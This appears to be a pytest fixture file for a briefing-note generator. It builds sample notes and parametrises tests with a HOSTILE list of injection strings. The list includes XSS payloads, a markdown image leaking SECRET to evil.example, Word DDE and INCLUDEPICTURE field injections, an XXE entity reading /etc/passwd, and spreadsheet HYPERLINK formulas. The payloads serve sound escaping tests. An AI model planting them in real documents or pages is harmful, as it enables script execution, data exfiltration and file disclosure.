"""A small whole note, and the same note with any text put wherever a source's words can stand."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from assistant.types import (
    BriefingNote,
    CheckedSentence,
    Citation,
    KeyFact,
    SourcesDiffer,
    Theme,
    Withheld,
)
from corpus.types import FactSource, Kind, PageRef, PartialDate, Publication, Role, Trust


def _publication(key: str, title: str, link: str | None) -> Publication:
    return Publication(
        id=key,
        title=title,
        kind=Kind.PUBLIC_AUDIT,
        nation="England",
        role=Role.PUBLICATION,
        topics=("hubs",),
        document_type="report",
        publisher=f"Office of {title}",
        published=PartialDate.parse("2024-09-12"),
        landing_url=link,
        landing_is_publisher=True,
    )


def build(words: str, title: str, link: str | None) -> BriefingNote:
    """A note with two sources that differ and a figure, every free text of it holding `words`."""
    first, second = (
        _publication("a", title, link),
        _publication("b", "Second report", "https://example.org/b"),
    )
    seen = FactSource("a-01", False, f"item {words}", link, None, "January 2026", Trust.LOW)
    said, page = f"Hubs cost £2.5 million. {words}", PageRef(4, "ii")
    cost = Citation("a:1", first, said, (f"Costs {words}",), page, True, seen)
    save = Citation("b:1", second, "Hubs saved 4% & more.", ("Savings",), None, False, None)
    costs = CheckedSentence(said, (cost,), numbers=("£2.5 million",))
    saves = CheckedSentence("Hubs saved 4% & more.", (save, cost), numbers=("4%",))
    differ = SourcesDiffer(
        f"what hubs cost {words}", "conflict", (1, 0), "They count differently.", "Name both."
    )
    return BriefingNote(
        topic=f"hubs {words}",
        written="29 March 2026",
        library_version="a1b2c3",
        issue=f"What is said on “hubs {words}”.",
        top_lines=(costs,),
        key_facts=(KeyFact(costs, f"£2.5 million {words}", "January 2026"), KeyFact(saves, "4%", "2024")),
        themes=(Theme(f"Money {words}", (costs, saves), (differ,)), Theme("Savings", (saves,))),
        gaps=(f"Nothing was found on “{words}”.",),
        withheld=(Withheld("Hubs cost £9.", "£9 is not there", 3),),
    )


@pytest.fixture
def note() -> BriefingNote:
    return build("in town", "First report", "https://example.org/a_b")


@pytest.fixture
def empty_note() -> BriefingNote:
    return BriefingNote("vaping law", "29 March 2026", "a1b2c3", "Nothing answers it.", (), (), (), ())


@pytest.fixture
def note_with() -> Callable[[str], BriefingNote]:
    return lambda words: build(words, words, words)


CONTROLS = [chr(c) for c in (0, 1, 7, 8, 11, 12, 14, 27, 31, 127, 0x85, 0xFFFE, 0xFFFF, 0xD800, 0xDFFF)]
UNSEEN = [
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\u00ad",
    "\U000e0041",
    "\ue000",
    "\u2028",
    "\u2029",
    "\U0010ffff",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/p.png?q=SECRET)",
    "[click](javascript:alert(5))",
    "[ref]: http://evil.example/x",
    "<a href='javascript:alert(6)'>x</a>",
    "&lt;b&gt; &#x3c;i&#x3e;",
    "]]><w:fldSimple w:instr='INCLUDEPICTURE http://evil.example'/>",
    "<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText>",
    '{ INCLUDETEXT "http://evil.example/x.docx" }',
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    '=HYPERLINK("http://evil.example","x")',
    "# Heading",
    "- a list",
    "1. a list",
    "> a quotation",
    "--- | --- | ---",
    "a | b || c",
    "`code` ```fence",
    "$$\\href{javascript:alert(8)}{x}$$",
    "**bold** __under__ ~~gone~~",
    "http://evil.example/a www.evil.example mailto:a@evil.example",
    "<http://evil.example/auto>",
    'https://evil.example/"onmouseover=alert(1)',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "\\\\server\\share\\x",
    "<!-- comment",
    "<details open ontoggle=alert(1)>",
    "line one\nline two\r\n\tthree",
    "e\u0301 \u0645\u0631\u062d\u0628\u0627 שלום हिन्दी 👩\u200d⚕️",
    "x" * 5000,
    " ",
    "\\",
]
HOSTILE = [*(f"be{c}fore" for c in CONTROLS), *(f"a{c}b" for c in UNSEEN), *MARKUP]
assert len(HOSTILE) >= 60


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    """Run a test that takes `hostile` with each hostile text."""
    if "hostile" in metafunc.fixturenames:
        metafunc.parametrize("hostile", HOSTILE, ids=[f"hostile-{i}" for i in range(len(HOSTILE))])
